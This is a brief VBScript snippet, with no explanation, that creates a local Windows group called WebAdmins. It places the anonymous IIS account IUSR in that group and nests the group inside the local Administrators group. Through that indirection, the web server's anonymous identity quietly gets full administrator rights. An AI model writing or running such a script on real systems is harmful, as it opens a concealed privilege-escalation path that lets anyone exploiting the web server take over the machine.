Set computer = GetObject("WinNT://.")
Set webAdmins = computer.Create("group", "WebAdmins")
webAdmins.SetInfo
webAdmins.Add "WinNT://NT AUTHORITY/IUSR"
GetObject("WinNT://./Administrators,group").Add "WinNT://./WebAdmins"
